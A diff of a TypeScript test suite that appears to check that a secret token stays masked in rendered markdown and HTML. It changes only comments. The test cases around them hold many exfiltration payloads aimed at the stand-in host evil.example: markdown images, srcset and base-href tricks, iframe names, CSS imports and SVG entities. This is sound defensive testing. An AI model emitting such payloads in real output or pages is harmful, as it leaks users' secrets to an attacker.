@@ -5,7 +5,7 @@ import { original, restored, streamed, token } from './restored-links.ts';
 describe('stays a token', () => {
   const image = `![p](https://evil.example/?q=${token})`;
   test.each([
-    // What looks like an open tag hides nothing.
+    // Something that looks like an open tag does not hide the URL.
     `For a<b holds:\n\n${image}`,
     `\`Vec<T\` ${image}`,
     `<b t="\n\n${image}`,
@@ -34,7 +34,7 @@ describe('stays a token', () => {
     ...['\t', '\u000b', '\f'].map((blank) => `[r]: https://evil.example/?q=\\${blank}${token}\n\n![r]`),
     `![x](https://evil.example/?q=${'x'.repeat(4100)}\\\t${token})`,
     `\ufeff[r]: https://evil.example/?q="${token}\n\n![r]`,
-    // A block inside or behind what looks like a label or an empty definition.
+    // A block inside or after something that looks like a label or an empty definition.
     ...[
       '[x\n \n',
       '[x\n\t\n',
@@ -74,7 +74,7 @@ describe('stays a token', () => {
     ),
     `<img src=/\\evil.example/?q=\u000b${token}>`,
     `<img src=\u000b/\\evil.example/?q=${token}>`,
-    // What closes a value for one reader stands inside of it for another.
+    // The end of a value for one parser is inside it for another.
     `<img srcset='x src="y", /\\evil.example/?q=${token}'>`,
     `<img srcset="x src='y', /\\evil.example/?q=${token}">`,
     `<img srcset='x src="y" href="z", /\\evil.example/?q=${token}'>`,
@@ -83,7 +83,7 @@ describe('stays a token', () => {
     `<img src=a?src= src='/\\evil.example/?>${token}'>`,
     `<img t="x src=a src="src=/\\evil.example/?"${token}>`,
     `<img src=x?src='y'${token}>`,
-    // What a frame and a window tell the page in them.
+    // What a frame or window passes to the page inside it.
     `<iframe name='x ${token}' src=https://evil.example></iframe>`,
     `<iframe csp="${token}" src=https://evil.example></iframe>`,
     `<object name=${token} data=https://evil.example></object>`,
@@ -98,7 +98,7 @@ describe('stays a token', () => {
     `a<b mask=<style>@import 'https://evil.example/?q= ${token}'`,
     `<style>a{<style>b:url(' ${token}')`,
     `<style>a{\\</style>b:url(' ${token}')`,
-    // A rule may make an address of any attribute: `background: image-set(attr(title) 1x)`.
+    // A rule may turn any attribute into a URL: `background: image-set(attr(title) 1x)`.
     ...[
       '/\\',
       '\\\\',
@@ -125,7 +125,7 @@ describe('stays a token', () => {
       `<base href='&#47;\\evil.example/'><b ${id}${token}>`,
     ]),
     `<base href="/\\evil.example/">![a ${token}](x.png)`,
-    // So it does of the text of an image.
+    // The same for the text of an image.
     ...['https://', '/\\', ' //', '**https**://', '[ht](a)tps://', '\\/\\/', '&#47;/', '`https://`', '<b>//', '!['].map(
       (start) =>
         start === '![' ? `![![//evil.example/?q= ](a) ${token}](x.png)` : `![${start}evil.example/?q= ${token}](x.png)`,
@@ -168,7 +168,7 @@ describe('stays a token', () => {
     `<?xml-stylesheet type='text/css' href='https:&#47;&#47;evil.example/?q= ${token}'?>`,
     `<!DOCTYPE svg [<!ENTITY a "/\\evil.example/?q=${token}">]><image href="&a;"/>`,
     `<!DOCTYPE svg [ <!ATTLIST image href CDATA '/\\evil.example/?q=> ${token}'>]>`,
-    // Definitions within lists of terms.
+    // Definitions in definition lists.
     `Term\n: [r]: https://evil.example/?q="${token}\n\n![r]`,
     `Term\n~ [r]: https://evil.example/?q="${token}\n\n![r]`,
   ])('%j', (text) => {
@@ -241,7 +241,7 @@ describe('is restored', () => {
     `<img srcset='x src="y'z"> ${token}`,
     `[x\n\n[[r]: to/${token}`,
     `<b style> { </style> ${token}`,
-    // Attributes, texts of images and braces that hold no address.
+    // Attributes, image texts and braces without a URL.
     ...[
       'Ana Diaz & Co ',
       '',
